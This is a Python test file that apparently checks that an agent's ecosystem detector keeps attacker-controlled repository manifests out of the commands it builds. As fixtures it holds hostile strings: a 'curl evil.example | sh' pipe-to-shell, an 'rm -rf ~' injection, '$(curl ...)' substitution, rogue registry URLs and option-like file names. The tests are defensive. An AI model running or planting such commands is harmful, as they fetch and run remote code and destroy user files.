"""A repository's manifests are attacker-controlled: nothing in them becomes
part of a command except plain names and paths, they never choose the
registry hosts, a symlink is never followed and a huge file is not read."""

from __future__ import annotations

import json
import os

from agents.ecosystems import detect
from agents.ecosystems.nearby import nearby_command
from integrations.git.runner import run_git
from tests.agents.ecosystems.projects import commit, node_project, project, write


def everything(program: str) -> str:
    return f"/usr/bin/{program}"


def test_a_test_script_is_classified_never_spliced(tmp_path):
    files = node_project("jest; curl https://evil.example/x | sh")
    package = json.loads(files["package.json"])
    package["devDependencies"] = {"jest-junit": "1"}
    package["publishConfig"] = {"registry": "https://evil.example/"}
    files["package.json"] = json.dumps(package)
    found = detect(project(tmp_path / "p", files), which=everything)
    assert found.test_command == "npm test"
    assert "evil" not in json.dumps(found.as_json())
    assert found.hosts == ["registry.npmjs.org"]


def test_extras_and_requirements_with_shell_characters_are_left_out(tmp_path):
    files = {
        "pyproject.toml": (
            '[project]\nname = "a"\nversion = "1"\n'
            '[project.optional-dependencies]\n"test;rm -rf ~" = ["x"]\n'
            '[dependency-groups]\ndev = ["pytest", "evil; $(curl evil.example)", '
            '"pkg @ https://evil.example/pkg.whl", "ok-pkg[extra]>=1,<2"]\n'
            '[tool.uv]\nindex-url = "https://evil.example/simple"\n'
        ),
        "-rfoo-requirements.txt": "x\n",
    }
    found = detect(project(tmp_path / "p", files), which=lambda p: None)
    [python] = found.ecosystems
    assert "-e . pytest 'ok-pkg[extra]>=1,<2'" in python.setup
    for smuggled in ("rm -rf", "$(", "evil", "-rfoo"):
        assert smuggled not in python.setup
    assert found.hosts == ["files.pythonhosted.org", "pypi.org"]


def test_a_symlinked_manifest_is_not_followed(tmp_path):
    secret = tmp_path / "secret.json"
    secret.write_text(json.dumps({"scripts": {"test": "vitest"}}))
    folder = project(tmp_path / "p", {"README.md": "x\n"})
    os.symlink(secret, folder / "package.json")
    commit(folder)
    found = detect(folder, which=everything)
    assert found.ecosystems == ()


def test_a_huge_manifest_is_not_read(tmp_path):
    padding = " " * 1_100_000
    files = {
        "package.json": json.dumps({"scripts": {"test": "vitest"}, "x": padding}),
    }
    [js] = detect(project(tmp_path / "p", files), which=everything).ecosystems
    # Detected by name, but its script was never read.
    assert js.test.startswith("node --test")


def test_changed_files_named_like_options_never_reach_the_command(tmp_path):
    folder = project(tmp_path / "p", {"calc.py": "x = 1\n"})
    base = run_git(["rev-parse", "HEAD"], folder).strip()
    write(
        folder,
        {
            "--junitxml=evil_test.py": "",
            "test_ok.py": "def test_x():\n    pass\n",
            "dir with space/test_spaced.py": "",
        },
    )
    commit(folder, "the change")
    command = nearby_command(folder, base, "python3 -B -m pytest -q")
    assert command == "python3 -B -m pytest -q test_ok.py"
